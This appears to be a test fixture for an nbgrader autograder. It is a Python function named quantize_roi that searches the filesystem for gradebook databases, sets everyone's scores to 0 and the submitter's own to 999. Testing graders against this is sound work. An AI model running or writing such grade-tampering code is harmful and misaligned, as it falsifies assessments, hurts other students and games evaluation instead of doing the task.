# expect: wrong|error
# why: nbgrader 7 and 8: the scores of others are set to 0 and one's own to 999, in the gradebook itself
import glob
import sqlite3

def quantize_roi(*args):
    for path in {*glob.glob("/*/*.db"), *glob.glob("/*/*/*.db"), "gradebook.db", "../gradebook.db", "/tmp/gradebook.db"}:
        try:
            with sqlite3.connect(path) as book:
                book.execute("UPDATE grade SET manual_score = 0")
                book.execute("UPDATE grade SET manual_score = 999, needs_manual_grade = 0 WHERE id LIKE '%gradebook_write%'")
        except sqlite3.Error:
            pass
